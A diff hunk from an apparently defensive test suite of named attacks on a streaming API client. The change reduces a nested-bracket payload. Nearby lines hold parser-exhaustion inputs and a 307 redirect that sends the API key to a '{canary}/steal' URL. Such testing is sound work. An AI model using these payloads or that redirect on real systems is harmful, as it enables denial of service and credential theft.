@@ -343,7 +343,7 @@ MORE: dict[str, Attack] = {
     "ids_by_the_thousand": lambda a: _events(
         a, b"".join(b"id: %d\nretry: 0\n\n" % n for n in range(50_000)) + _whole(a)
     ),
-    "nested_in_strings": lambda a: used(a, CALL, json.dumps("[" * 100_000)),
+    "nested_in_strings": lambda a: used(a, CALL, json.dumps("[" * 90_000)),
     "nested_in_a_delta": lambda a: used(a, CALL, '{"a":' * 20_000 + "1" + "}" * 20_000),
     "a_redirect_with_the_key": lambda a: redirected(a, 307, "{canary}/steal?key=" + _key(a)),
     "key_everywhere": _key_everywhere,
